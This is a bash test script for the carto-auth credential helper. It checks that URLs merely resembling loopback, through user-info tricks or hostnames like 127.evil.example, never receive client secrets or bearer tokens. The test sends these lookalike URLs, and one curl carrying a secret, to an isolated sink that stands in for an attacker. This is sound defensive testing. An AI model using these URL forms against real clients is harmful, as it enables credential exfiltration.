#!/bin/bash
# URLs are parsed, not prefix-matched (issue 10, item 2): plain http:// goes
# only to a loopback host as a URL parser reads it, user-info is refused
# everywhere, and a URL that only looks like loopback never receives the
# client secret or a bearer token in clear.
#
# The script runs in a network and mount namespace of its own (unshare), so
# that it can have a real non-loopback address: 192.0.2.10 (TEST-NET-1) on
# the namespace's lo, where a listener (the "sink") records every byte it
# receives.  A hosts file bind-mounted inside the namespace makes
# 127.evil.example and 127.0.0.1.evil.example resolve to that address.  The
# namespace has no other interface: no packet can leave the machine.  Each
# attack names the sink through one entry point (auth_url, CARTO_AUTH_URL,
# a credentials file's api_base_url, the api_base_url key, a tenant's
# config.yaml baseUrl, CARTO_ACCOUNTS_URL, CARTO_AUTH_REDIRECT_URI, the
# accounts answer's tenant_domain) and must end with exit 2 or 1, one clear
# line on stderr, nothing on stdout, no secret anywhere, and 0 bytes at the
# sink.  Without unshare (or the right to use it) the script is skipped (77).
set -euo pipefail

SINK_ADDR=192.0.2.10
if [ -z "${CARTO_URL_TRUST_NS:-}" ]; then
  if ! command -v unshare >/dev/null 2>&1 || ! command -v ip >/dev/null 2>&1; then
    echo "SKIP: needs unshare and ip (util-linux, iproute2)"
    exit 77
  fi
  ns_args=(--net --mount)
  [ "$(id -u)" = 0 ] || ns_args+=(--user --map-root-user)
  if ! unshare "${ns_args[@]}" true 2>/dev/null; then
    echo "SKIP: cannot make a network namespace here (unshare ${ns_args[*]})"
    exit 77
  fi
  CARTO_URL_TRUST_NS=1 exec unshare "${ns_args[@]}" bash "$0" "$@"
fi
ip link set lo up
ip addr add "$SINK_ADDR/32" dev lo

. "$(dirname "$0")/../lib.sh"

# Names that begin like loopback but resolve to the sink.
{
  cat /etc/hosts 2>/dev/null || true
  echo "$SINK_ADDR 127.evil.example 127.0.0.1.evil.example"
} >"$TEST_TMP/hosts"
mount --bind "$TEST_TMP/hosts" /etc/hosts

# --- the sink: a listener on the non-loopback address --------------------------

SINK_DIR=$TEST_TMP/sink
mkdir -p "$SINK_DIR"
"$PYTHON" - "$SINK_ADDR" "$SINK_DIR" <<'EOF' >"$SINK_DIR/stderr.log" 2>&1 &
import os, socket, sys, threading
addr, folder = sys.argv[1], sys.argv[2]
lock = threading.Lock()
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((addr, 0))
srv.listen(16)
with open(os.path.join(folder, "port.tmp"), "w") as f:
    f.write(str(srv.getsockname()[1]))
os.rename(os.path.join(folder, "port.tmp"), os.path.join(folder, "port"))

def serve(conn):
    conn.settimeout(0.5)
    got = b""
    try:
        while True:
            data = conn.recv(65536)
            if not data:
                break
            got += data
            with lock, open(os.path.join(folder, "bytes"), "ab") as f:
                f.write(data)
            head, sep, body = got.partition(b"\r\n\r\n")
            if sep:
                length = 0
                for line in head.split(b"\r\n")[1:]:
                    k, _, v = line.partition(b":")
                    if k.strip().lower() == b"content-length":
                        length = int(v.strip() or 0)
                if len(body) >= length:
                    break
    except (socket.timeout, OSError, ValueError):
        pass
    try:
        msg = b'{"error":"sink"}'
        conn.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\n"
                     b"Connection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(msg), msg))
    except OSError:
        pass
    conn.close()

while True:
    c, _ = srv.accept()
    with lock, open(os.path.join(folder, "connections"), "a") as f:
        f.write("1\n")
    threading.Thread(target=serve, args=(c,), daemon=True).start()
EOF
SINK_PID=$!
on_exit "kill $SINK_PID 2>/dev/null; wait $SINK_PID 2>/dev/null"
wait_until 5 test -s "$SINK_DIR/port" || { echo "the sink did not start" >&2; exit 1; }
SP=$(cat "$SINK_DIR/port")

standin_start
GOOD_URL=$STANDIN_URL
GOOD_ACCOUNTS=$CARTO_ACCOUNTS_URL

# URLs that an old prefix match took for loopback; each reaches the sink.
FORMS=(
  "http://localhost:@$SINK_ADDR:$SP"
  "http://127.0.0.1@$SINK_ADDR:$SP"
  "http://[::1]@$SINK_ADDR:$SP"
  "HTTP://LOCALHOST:@$SINK_ADDR:$SP"
  "http://127.0.0.1:$STANDIN_PORT@$SINK_ADDR:$SP"
  "http://127.evil.example:$SP"
  "http://127.0.0.1.evil.example:$SP"
)

sink_bytes() { if [ -f "$SINK_DIR/bytes" ]; then stat -c %s "$SINK_DIR/bytes"; else echo 0; fi; }
sink_connections() { if [ -f "$SINK_DIR/connections" ]; then wc -l <"$SINK_DIR/connections"; else echo 0; fi; }
sink_clear() { rm -f "$SINK_DIR/bytes" "$SINK_DIR/connections"; }

# Before each attack: an empty sink, a fresh store, the stand-in's defaults.
fresh() {
  sink_clear
  export CARTO_AUTH_HOME=$TEST_TMP/home-$1
  export CARTO_AUTH_URL=$GOOD_URL CARTO_ACCOUNTS_URL=$GOOD_ACCOUNTS
  export CARTO_AUTH_REDIRECT_URI="http://localhost:$(free_port)/callback/"
  export STANDIN_BROWSER_LOG=$TEST_TMP/browser-$1.log
  : >"$STANDIN_BROWSER_LOG"
  standin_reset
}

# What a refused attack looks like to the user, and to the sink.
assert_refused() {
  local what=$1 lines
  case $RC in
    1|2) ;;
    *) assert_rc "1 or 2" "$what: exit status" ;;
  esac
  assert_empty "$OUT" "$what: stdout"
  lines=$(grep -c '^carto-auth: ' <<<"$ERR" || true)
  assert_eq 1 "$lines" "$what: one error line on stderr"
  assert_not_contains "$ERR" "$STANDIN_SECRET_1" "$what: the client secret on stderr"
  assert_not_contains "$ERR" "eyJ" "$what: a token on stderr"
  assert_not_contains "$ERR" "@$SINK_ADDR" "$what: the URL's user-info echoed"
  # a moment for a connection still in flight to land
  sleep 0.05
  if [ -f "$SINK_DIR/bytes" ]; then
    ! grep -q "$STANDIN_SECRET_1" "$SINK_DIR/bytes" ||
      _t_assert_failed "$what: the client secret reached $SINK_ADDR in clear" || return 1
    ! grep -qi "authorization: bearer" "$SINK_DIR/bytes" ||
      _t_assert_failed "$what: a bearer token reached $SINK_ADDR in clear" || return 1
  fi
  assert_eq 0 "$(sink_connections)" "$what: connections that reached $SINK_ADDR"
  assert_eq 0 "$(sink_bytes)" "$what: bytes that reached $SINK_ADDR"
}

M2M_KEYS="client_id=$STANDIN_CLIENT_1"$'\n'"client_secret=$STANDIN_SECRET_1"

# --- the sink works: a request sent there is seen --------------------------------

case_sink_sees() {
  sink_clear
  curl -q -sS --noproxy '*' --max-time 5 -o /dev/null "http://$SINK_ADDR:$SP/probe?x=$STANDIN_SECRET_1" || true
  grep -q "$STANDIN_SECRET_1" "$SINK_DIR/bytes"
  sink_clear
  curl -q -sS --noproxy '*' --max-time 5 -o /dev/null "http://127.evil.example:$SP/" || true
  assert_eq 1 "$(sink_connections)" "127.evil.example resolves to the sink"
  sink_clear
}
t_case "the sink on $SINK_ADDR records what reaches it" case_sink_sees

# --- M2M: the client secret ---------------------------------------------------------

case_auth_url_key() {
  local i=0 url
  for url in "${FORMS[@]}"; do
    fresh akey-$i
    unset CARTO_AUTH_URL
    run_helper "$M2M_KEYS"$'\n'"api_base_url=$GOOD_URL"$'\n'"auth_url=$url"$'\n\n' get
    assert_refused "auth_url=$url"
    assert_eq 2 "$RC" "auth_url=$url: bad input"
    assert_contains "$ERR" "auth_url"
    i=$((i + 1))
  done
}
t_case "auth_url key: a URL that only looks like loopback never gets the secret" case_auth_url_key

case_auth_url_env() {
  local i=0 url
  for url in "${FORMS[@]}"; do
    fresh aenv-$i
    export CARTO_AUTH_URL=$url
    run_helper "$M2M_KEYS"$'\n'"api_base_url=$GOOD_URL"$'\n\n' get
    assert_refused "CARTO_AUTH_URL=$url"
    assert_eq 2 "$RC" "CARTO_AUTH_URL=$url: bad input"
    i=$((i + 1))
  done
}
t_case "CARTO_AUTH_URL: a URL that only looks like loopback never gets the secret" case_auth_url_env

# --- M2M: the bearer token, sent to api_base_url for the Data Warehouse ---------------

case_credentials_file() {
  local i=0 url
  for url in "${FORMS[@]}"; do
    fresh cfile-$i
    make_creds_file "$TEST_TMP/creds-$i.json" "$STANDIN_CLIENT_1" "$STANDIN_SECRET_1" "$url"
    run_helper $'mode=m2m\ncarto_dw=true\ncredentials_file='"$TEST_TMP/creds-$i.json"$'\n\n' get
    assert_refused "credentials file api_base_url=$url"
    assert_eq 2 "$RC" "credentials file api_base_url=$url: bad input"
    assert_contains "$ERR" "api_base_url"
    i=$((i + 1))
  done
}
t_case "credentials file api_base_url: no bearer token in clear to another host" case_credentials_file

case_api_base_url_key() {
  local i=0 url
  make_creds_file "$TEST_TMP/creds-good.json" "$STANDIN_CLIENT_1" "$STANDIN_SECRET_1" "$GOOD_URL"
  for url in "${FORMS[@]}"; do
    fresh akey-$i
    run_helper $'mode=m2m\ncarto_dw=true\ncredentials_file='"$TEST_TMP/creds-good.json"$'\napi_base_url='"$url"$'\n\n' get
    assert_refused "api_base_url=$url"
    assert_eq 2 "$RC" "api_base_url=$url: bad input"
    assert_contains "$ERR" "api_base_url"
    i=$((i + 1))
  done
}
t_case "api_base_url key: no bearer token in clear to another host" case_api_base_url_key

# --- OAuth: discovery ------------------------------------------------------------------

case_config_yaml_base_url() {
  local i=0 url
  for url in "${FORMS[@]}"; do
    fresh yaml-$i
    standin_settings "{\"api_base_url\": \"$url\"}"
    run_helper $'mode=oauth\ncarto_dw=true\n\n' get
    assert_refused "config.yaml baseUrl=$url"
    assert_eq 1 "$RC" "config.yaml baseUrl=$url: a failure"
    assert_contains "$ERR" "config.yaml"
    assert_no_file "$CARTO_AUTH_HOME/token_oauth.json" "config.yaml baseUrl=$url: a token stored"
    i=$((i + 1))
  done
}
t_case "a tenant's config.yaml baseUrl: refused, no bearer token in clear" case_config_yaml_base_url

case_accounts_url() {
  local i=0 url
  for url in "${FORMS[@]}"; do
    fresh acct-$i
    export CARTO_ACCOUNTS_URL=$url/accounts
    run_helper $'mode=oauth\n\n' get
    assert_refused "CARTO_ACCOUNTS_URL=$url/accounts"
    assert_eq 2 "$RC" "CARTO_ACCOUNTS_URL=$url/accounts: bad input"
    assert_contains "$ERR" "CARTO_ACCOUNTS_URL"
    assert_empty "$(cat "$STANDIN_BROWSER_LOG")" "no login before the bad URL is seen"
    i=$((i + 1))
  done
}
t_case "CARTO_ACCOUNTS_URL: refused before anything is sent" case_accounts_url

case_tenant_domain() {
  local i=0 domain
  for domain in "evil.example@x" "a/b" "x:1@y" "127.0.0.1@$SINK_ADDR:$SP" \
    "localhost:@$SINK_ADDR:$SP" "127.evil.example:$SP" "127.0.0.1.evil.example:$SP" \
    "[::1]@$SINK_ADDR:$SP" "$SINK_ADDR:$SP"; do
    fresh tenant-$i
    standin_settings "{\"tenant_domain\": \"$domain\"}"
    run_helper $'mode=oauth\n\n' get
    assert_refused "tenant_domain=$domain"
    assert_eq 1 "$RC" "tenant_domain=$domain: a failure"
    assert_contains "$ERR" "account discovery"
    i=$((i + 1))
  done
}
t_case "the accounts answer's tenant_domain: nothing fetched from the sink" case_tenant_domain

case_redirect_uri() {
  local i=0 url
  for url in "${FORMS[@]}"; do
    fresh redir-$i
    export CARTO_AUTH_REDIRECT_URI=$url/callback/
    run_helper '' login
    assert_refused "CARTO_AUTH_REDIRECT_URI=$url/callback/"
    assert_eq 2 "$RC" "CARTO_AUTH_REDIRECT_URI=$url/callback/: bad input"
    assert_contains "$ERR" "CARTO_AUTH_REDIRECT_URI"
    assert_empty "$(cat "$STANDIN_BROWSER_LOG")" "no browser for a bad redirect URI"
    i=$((i + 1))
  done
}
t_case "CARTO_AUTH_REDIRECT_URI: refused, no browser" case_redirect_uri

# --- an answer's host= never carries user-info -------------------------------------

case_stored_user_info() {
  fresh stored
  run_helper '' login
  assert_rc 0
  # every file that holds the token (the reference's and the per-identity one)
  "$PYTHON" - "$CARTO_AUTH_HOME" "http://127.0.0.1@$SINK_ADDR:$SP" <<'EOF'
import glob, json, os, sys
home, url = sys.argv[1:3]
for path in glob.glob(os.path.join(home, "*.json")) + glob.glob(os.path.join(home, "tokens", "*.json")):
    with open(path) as f:
        d = json.load(f)
    d["api_base_url"] = url
    with open(path, "w") as f:
        json.dump(d, f)
EOF
  sink_clear
  run_helper $'mode=oauth\n\n' get
  assert_refused "a stored api_base_url with user-info (get)"
  assert_not_contains "$OUT" "host=127.0.0.1@"
  sink_clear
  run_helper $'mode=oauth\ncarto_dw=true\n\n' get
  assert_refused "a stored api_base_url with user-info (carto_dw)"
}
t_case "a stored api_base_url with user-info: no host= with user-info, nothing sent" case_stored_user_info

# --- what still works -------------------------------------------------------------------

m2m_ok() {
  local what=$1
  assert_rc 0 "$what"
  assert_match "$(kv_get "$OUT" password)" '^eyJ' "$what: a token"
  assert_eq 0 "$(sink_bytes)" "$what: bytes at the sink"
}

case_loopback_forms_work() {
  local url host
  for url in "http://localhost:$STANDIN_PORT localhost:$STANDIN_PORT" \
    "http://127.0.0.1:$STANDIN_PORT 127.0.0.1:$STANDIN_PORT" \
    "HTTP://LOCALHOST:$STANDIN_PORT localhost:$STANDIN_PORT" \
    "http://127.0.0.1:$STANDIN_PORT/ 127.0.0.1:$STANDIN_PORT"; do
    host=${url#* }
    url=${url%% *}
    fresh ok-$RANDOM
    export CARTO_AUTH_URL=$url
    run_helper "$M2M_KEYS"$'\n'"api_base_url=$url"$'\ncarto_dw=true\n\n' get
    m2m_ok "$url"
    assert_eq carto-dw-ac-demo1234 "$(kv_get "$OUT" carto_dw_project)" "$url: DW"
    assert_eq "$host" "$(kv_get "$OUT" host)" "$url: host="
  done
}
t_case "http://localhost:PORT, http://127.0.0.1:PORT (any case) still work" case_loopback_forms_work

case_ipv6_loopback_works() {
  local dir=$TEST_TMP/standin-v6 pid port
  mkdir -p "$dir"
  "$PYTHON" "$STANDIN_HOME/carto_standin.py" --host ::1 --port-file "$dir/port" \
    --log "$dir/requests.jsonl" --parent-pid $$ >"$dir/stdout.log" 2>"$dir/stderr.log" </dev/null &
  pid=$!
  echo "$pid" >>"$TEST_TMP/.standin_pids"
  wait_until 5 test -s "$dir/port"
  port=$(cat "$dir/port")
  fresh v6
  export CARTO_AUTH_URL="http://[::1]:$port"
  run_helper "$M2M_KEYS"$'\n'"api_base_url=http://[::1]:$port"$'\n\n' get
  m2m_ok "http://[::1]:$port"
  assert_eq "[::1]:$port" "$(kv_get "$OUT" host)" "host= of an IPv6 API base URL"
  grep -q '"/oauth/token"' "$dir/requests.jsonl"
  standin_stop "$pid"
}
t_case "http://[::1]:PORT still works" case_ipv6_loopback_works

# HTTPS:// in upper case is the same scheme (RFC 3986 3.1): accepted.
case_upper_case_https() {
  local save_url=$STANDIN_URL save_port=$STANDIN_PORT
  standin_start --tls
  fresh tls
  export CARTO_AUTH_URL="HTTPS://LOCALHOST:$STANDIN_PORT"
  run_helper "$M2M_KEYS"$'\n'"api_base_url=HTTPS://127.0.0.1:$STANDIN_PORT"$'\n\n' get
  m2m_ok "HTTPS://"
  standin_stop "$STANDIN_PID"
  : "$save_url" "$save_port"
}
t_case "HTTPS:// (upper case) to a good host is accepted" case_upper_case_https

t_done
